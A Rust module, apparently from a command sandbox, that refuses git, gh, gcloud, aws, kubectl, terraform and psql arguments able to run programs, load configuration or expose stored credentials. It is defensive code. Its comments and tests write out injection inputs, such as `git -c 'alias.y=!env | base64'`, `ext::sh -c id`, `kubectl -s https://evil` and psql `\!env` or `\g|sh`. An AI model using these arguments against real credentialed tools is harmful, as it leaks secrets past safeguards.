//! Configuration injection: arguments that make a credentialed program run a program, load
//! configuration, or send its credentials somewhere the command chooses.
//!
//! A credentialed command runs with the stored credentials in its environment. Any way for the
//! command to name code that the program then runs (`git -c 'alias.y=!env | base64' y`, `git
//! fetch --upload-pack=…`, `kubectl --kubeconfig=x` whose user runs an `exec` plugin, `psql -c
//! '\! env'`) hands the credentials to that code, past the output scrubber. So does any way to
//! change where the program sends them (`kubectl --server=…`) or to print them (`git config
//! --list` shows `GIT_CONFIG_*` headers, `aws configure get`).
//!
//! The rule: for every binary with a preset, the options and subcommands that do any of this
//! are refused, whatever the operator's `deny_args` say, with a message naming the argument and
//! the reason. Configuration that the program reads from files the command does not name (the
//! repository's `.git/config`, `~/.config/gh`, `.tf` files in the working directory) is not
//! covered here: the sandbox protects `.git`, and a program whose working directory holds its
//! code (`terraform`) runs that code with its credentials by design. Binaries without a preset
//! get only the operator's patterns.

use super::Refusal;

/// Refuses `args` of credentialed `binary` when one injects configuration or a program.
pub(crate) fn check(binary: &str, args: &[String]) -> Result<(), Refusal> {
    let found = match binary {
        "git" => git(args),
        "gh" => gh(args),
        "gcloud" => gcloud(args),
        "aws" => aws(args),
        "kubectl" => kubectl(args),
        "terraform" => terraform(args),
        "psql" => psql(args),
        _ => None,
    };
    match found {
        Some((arg, why)) => Err(Refusal::Injection {
            binary: binary.to_owned(),
            arg,
            why: why.to_owned(),
        }),
        None => Ok(()),
    }
}

type Found = Option<(String, &'static str)>;

/// True when `arg` is the long option `--name`, `--name=…` or an abbreviation of it (git's and
/// most CLIs' option parsers accept unambiguous prefixes; any prefix is refused).
fn long(arg: &str, name: &str) -> bool {
    let Some(key) = arg.strip_prefix("--") else {
        return false;
    };
    let key = key.split_once('=').map_or(key, |(k, _)| k);
    !key.is_empty() && name.starts_with(key)
}

/// `-x`, `-xVALUE` or a short-option cluster holding `x`.
fn short(arg: &str, c: char) -> bool {
    arg.strip_prefix('-')
        .is_some_and(|rest| !rest.starts_with('-') && rest.starts_with(c))
}

fn first(args: &[String], f: impl Fn(&str) -> Option<&'static str>) -> Found {
    args.iter().find_map(|a| f(a).map(|why| (a.clone(), why)))
}

/// The first argument that is not an option: the subcommand, for the CLIs checked here.
fn subcommand(args: &[String]) -> Option<&str> {
    args.iter()
        .find(|a| !a.starts_with('-'))
        .map(String::as_str)
}

/// The arguments that are not options, in order (subcommand, its operation, operands).
fn words(args: &[String]) -> Vec<&str> {
    args.iter()
        .filter(|a| !a.starts_with('-'))
        .map(String::as_str)
        .collect()
}

/// Global options git accepts before the subcommand that change nothing it loads or runs.
const GIT_GLOBAL_FLAGS: &[&str] = &[
    "-v",
    "--version",
    "-h",
    "--help",
    "-p",
    "--paginate",
    "-P",
    "--no-pager",
    "--bare",
    "--no-replace-objects",
    "--no-lazy-fetch",
    "--no-optional-locks",
    "--no-advice",
    "--literal-pathspecs",
    "--glob-pathspecs",
    "--noglob-pathspecs",
    "--icase-pathspecs",
    "--html-path",
    "--man-path",
    "--info-path",
];

fn git(args: &[String]) -> Found {
    const GLOBAL: &str = "git global options that set configuration, the program directory or \
         the repository (-c, --config-env, --exec-path, -C, --git-dir, --work-tree …) can make \
         git load configuration that runs programs (aliases, core.pager, core.sshCommand, \
         core.fsmonitor, hooks)";
    let mut i = 0;
    while let Some(arg) = args.get(i) {
        if !arg.starts_with('-') {
            break;
        }
        if GIT_GLOBAL_FLAGS.contains(&arg.as_str()) || arg.starts_with("--list-cmds=") {
            i += 1;
            continue;
        }
        return Some((arg.clone(), GLOBAL));
    }
    let sub = args.get(i).map(String::as_str).unwrap_or("");
    let rest = args.get(i + 1..).unwrap_or(&[]);
    let transport = first(args, |a| {
        let lower = a.to_ascii_lowercase();
        let url = lower.split_once('=').map_or(lower.as_str(), |(k, v)| {
            if k.starts_with("--") {
                v
            } else {
                lower.as_str()
            }
        });
        (url.starts_with("ext::") || url.starts_with("fd::"))
            .then_some("the `ext::` and `fd::` transports run a command instead of connecting")
    });
    if transport.is_some() {
        return transport;
    }
    let whole = |why: &'static str| Some((sub.to_owned(), why));
    match sub {
        "config" => whole(
            "`git config` writes configuration that runs programs, and reads the credentials \
             given as GIT_CONFIG_* variables",
        ),
        "credential" | "credential-cache" | "credential-store" => {
            whole("it prints or stores the credentials")
        }
        "filter-branch" | "difftool" | "mergetool" => whole("it runs commands given to it"),
        "submodule" if rest.first().is_some_and(|a| a == "foreach") => {
            whole("`git submodule foreach` runs a shell command")
        }
        "bisect" if rest.first().is_some_and(|a| a == "run") => {
            whole("`git bisect run` runs a command")
        }
        _ => first(rest, |a| git_option(sub, a)),
    }
}

/// A subcommand option that runs a program or loads configuration.
fn git_option(sub: &str, a: &str) -> Option<&'static str> {
    const RUNS: &str = "it names a program for git to run (on this or the remote side)";
    const CONFIG: &str = "it sets configuration or templates (hooks) for the new repository";
    if long(a, "upload-pack") || long(a, "receive-pack") {
        return Some(RUNS);
    }
    match sub {
        "clone" | "ls-remote" if short(a, 'u') => Some(RUNS),
        "push" | "send-pack" | "archive" | "fetch-pack" if long(a, "exec") => Some(RUNS),
        "clone" | "init" if long(a, "template") => Some(CONFIG),
        "clone" if long(a, "config") || short(a, 'c') => Some(CONFIG),
        "rebase" if long(a, "exec") || short(a, 'x') => Some(RUNS),
        "rebase" if long(a, "interactive") || short(a, 'i') => {
            Some("an interactive rebase runs the editor and `exec` lines")
        }
        "grep" if long(a, "open-files-in-pager") || short(a, 'O') => Some(RUNS),
        _ => None,
    }
}

fn gh(args: &[String]) -> Found {
    let sub = subcommand(args);
    let next = args
        .iter()
        .skip_while(|a| a.starts_with('-'))
        .nth(1)
        .map(String::as_str);
    match (sub, next) {
        (Some("alias"), Some("set" | "import")) => Some((
            "alias".into(),
            "a gh alias can be a shell command, run later with the token",
        )),
        (Some("config"), Some("set" | "clear-cache")) => Some((
            "config".into(),
            "gh configuration names the editor, pager and browser gh runs with the token",
        )),
        (Some("extension" | "extensions" | "ext"), Some(op)) if op != "list" && op != "ls" => {
            Some((
                "extension".into(),
                "extensions are programs gh runs with the token",
            ))
        }
        (Some("auth"), _) => Some(("auth".into(), "it prints or changes the stored token")),
        _ => None,
    }
}

fn gcloud(args: &[String]) -> Found {
    if let Some(found) = first(args, |a| {
        (long(a, "flags-file") || long(a, "configuration"))
            .then_some("it loads flags or configuration from elsewhere")
    }) {
        return Some(found);
    }
    match words(args).as_slice() {
        ["config", op, ..] if !matches!(*op, "list" | "get" | "get-value") => Some((
            "config".into(),
            "gcloud configuration sets proxies, certificate authorities and credential helpers",
        )),
        ["config", "configurations", ..] => Some((
            "configurations".into(),
            "it switches or creates configurations",
        )),
        _ => None,
    }
}

fn aws(args: &[String]) -> Found {
    let sub = subcommand(args);
    if sub == Some("configure") {
        return Some((
            "configure".into(),
            "`aws configure` prints the keys or writes profiles (a `credential_process` runs a \
             program)",
        ));
    }
    first(args, |a| {
        (long(a, "profile") || long(a, "ca-bundle") || long(a, "no-verify-ssl")).then_some(
            "it loads another profile (which can run a `credential_process`) or weakens TLS",
        )
    })
}

fn kubectl(args: &[String]) -> Found {
    if let Some(found) = first(args, |a| {
        (long(a, "kubeconfig")
            || long(a, "server")
            || short(a, 's')
            || long(a, "insecure-skip-tls-verify")
            || long(a, "certificate-authority")
            || long(a, "tls-server-name"))
        .then_some(
            "a kubeconfig can run an `exec` credential plugin, and another server or weaker TLS \
             sends the credentials elsewhere",
        )
    }) {
        return Some(found);
    }
    match words(args).as_slice() {
        ["config", op, ..] if !matches!(*op, "current-context" | "get-contexts") => Some((
            "config".into(),
            "`kubectl config` prints or changes credentials and `exec` plugins",
        )),
        _ => None,
    }
}

fn terraform(args: &[String]) -> Found {
    first(args, |a| {
        (a.starts_with("-chdir") || a.starts_with("-plugin-dir") || long(a, "chdir"))
            .then_some("it runs the configuration and providers of another directory")
    })
}

fn psql(args: &[String]) -> Found {
    const META: &str = "psql meta-commands that run programs, include files or write output \
         (\\!, \\o, \\g, \\w, \\i, \\e, \\copy … program, \\setenv) are refused";
    let mut i = 0;
    while let Some(a) = args.get(i) {
        i += 1;
        let value_of = |opt: char, name: &str| -> Option<&str> {
            if a == &format!("-{opt}") || a == &format!("--{name}") {
                args.get(i).map(String::as_str)
            } else if let Some(v) = a.strip_prefix(&format!("--{name}=")) {
                Some(v)
            } else {
                a.strip_prefix(&format!("-{opt}")).filter(|v| !v.is_empty())
            }
        };
        if short(a, 'f') || long(a, "file") || short(a, 'L') || long(a, "log-file") {
            return Some((
                a.clone(),
                "it reads commands from, or writes a log to, a file",
            ));
        }
        if value_of('o', "output").is_some_and(|v| v.trim_start().starts_with('|')) {
            return Some((a.clone(), "output piped to a command runs that command"));
        }
        if a.contains('\\') && psql_meta(a) {
            return Some((a.clone(), META));
        }
    }
    None
}

/// True when `text` holds a psql meta-command that runs a program, includes a file or writes.
fn psql_meta(text: &str) -> bool {
    text.split('\\').skip(1).any(|cmd| {
        let name: String = cmd
            .chars()
            .take_while(|c| c.is_ascii_alphanumeric() || *c == '!')
            .collect();
        name.starts_with('!')
            || matches!(
                name.to_ascii_lowercase().as_str(),
                "o" | "out"
                    | "g"
                    | "gx"
                    | "gexec"
                    | "gset"
                    | "w"
                    | "write"
                    | "i"
                    | "ir"
                    | "include"
                    | "include_relative"
                    | "e"
                    | "edit"
                    | "ef"
                    | "ev"
                    | "copy"
                    | "setenv"
                    | "s"
                    | "lo_export"
                    | "lo_import"
            )
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn refused(binary: &str, line: &str) -> bool {
        let args: Vec<String> = line.split(' ').map(str::to_owned).collect();
        check(binary, &args).is_err()
    }

    #[test]
    fn git_injection() {
        for line in [
            "-c alias.y=!env y",
            "--config-env=core.pager=X log",
            "--exec-path=/tmp status",
            "-C /tmp/evil log",
            "--git-dir=/tmp/evil log",
            "--work-tree=/tmp status",
            "fetch --upload-pack=sh",
            "fetch --upload=sh",
            "ls-remote -u sh origin",
            "push --receive-pack=sh",
            "clone --template=/tmp/t https://x/y",
            "clone -c core.fsmonitor=x https://x/y",
            "clone ext::sh -c id",
            "archive --remote=ext::sh HEAD",
            "config core.pager cat",
            "config --get http.extraheader",
            "rebase -x id main",
            "submodule foreach env",
            "credential fill",
        ] {
            assert!(refused("git", line), "{line}");
        }
        for line in [
            "status",
            "log -c --oneline",
            "push -u origin main",
            "add -u",
            "--no-pager log",
            "fetch origin",
            "commit -m next::step",
        ] {
            assert!(!refused("git", line), "{line}");
        }
    }

    #[test]
    fn other_presets() {
        assert!(refused("gh", "alias set y !env"));
        assert!(refused("gh", "config set editor vim"));
        assert!(refused("gh", "extension install owner/ext"));
        assert!(!refused("gh", "pr list"));
        assert!(!refused("gh", "config get editor"));
        assert!(refused("gcloud", "config set proxy/address x"));
        assert!(refused("gcloud", "--flags-file=f.yaml compute list"));
        assert!(!refused("gcloud", "config list"));
        assert!(refused("aws", "configure get aws_secret_access_key"));
        assert!(refused("aws", "--profile other s3 ls"));
        assert!(!refused("aws", "s3 ls"));
        assert!(refused("kubectl", "--kubeconfig=k get pods"));
        assert!(refused("kubectl", "get pods -s https://evil"));
        assert!(refused("kubectl", "config view --raw"));
        assert!(!refused("kubectl", "get pods -n default"));
        assert!(refused("terraform", "-chdir=/tmp/x plan"));
        assert!(!refused("terraform", "plan"));
        assert!(refused("psql", "-c \\!env"));
        assert!(refused("psql", "-c select\\g|sh"));
        assert!(refused("psql", "-o |sh -c select"));
        assert!(refused("psql", "-f x.sql"));
        assert!(!refused("psql", "-c select\\ 1"));
        assert!(!refused("psql", "-c select-1"));
    }
}
